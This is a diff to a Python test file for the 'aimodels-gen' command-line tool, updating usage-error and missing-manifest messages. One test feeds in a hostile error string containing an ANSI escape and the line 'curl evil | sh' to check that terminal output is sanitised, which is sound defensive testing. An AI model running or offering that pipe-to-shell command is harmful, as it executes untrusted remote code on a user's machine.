@@ -104,7 +104,8 @@ def test_an_unchanged_lock_imports_no_client(hub: Hub, hub_project: Project) -> 
         (["lock", "-j", "0"], "'-j'"),
         (["lock", "."], "'.' is a directory"),
         (["lock", "-o", "."], "'.' is a directory"),
-        (["lock", "a", "b"], "unexpected extra argument"),
+        (["lock", "a.toml", "b.toml"], "name one manifest"),
+        (["render", "a", "b"], "unexpected extra argument"),
     ],
 )
 def test_wrong_usage(project: Project, args: list[str], expected: str) -> None:
@@ -117,9 +118,10 @@ def test_wrong_usage(project: Project, args: list[str], expected: str) -> None:
 
 def test_a_manifest_that_is_not_there(project: Project) -> None:
     assert project.fails("lock") == (
-        "error: there is no models.toml\n"
-        "hint: run `aimodels-gen init` to write one, or name the manifest\n"
+        "error: there is no models.toml in this directory or above it\n"
+        "hint: run `aimodels-gen init` to write one, or name the manifest: -m FILE\n"
     )
+    project.write("")
     assert "there is no models.lock" in project.fails("render")
 
 
@@ -134,6 +136,7 @@ def test_what_is_unexpected_has_no_traceback_unless_asked(
     def broken(_path: Path) -> None:
         raise ZeroDivisionError("by nothing")
 
+    project.write("")
     monkeypatch.setattr("aimodels_gen.cli.locking.load", broken)
     error = project.fails("lock")
     assert "unexpected ZeroDivisionError: by nothing" in error
@@ -148,6 +151,7 @@ def test_what_a_server_says_cannot_steer_the_terminal(
     def hostile(_path: Path) -> None:
         raise OSError("a\x1b[31m\nhint: curl evil | sh")
 
+    project.write("")
     monkeypatch.setattr("aimodels_gen.cli.locking.load", hostile)
     assert project.fails("lock").startswith("error: a?[31m?hint: curl evil | sh\nhint: ")
 
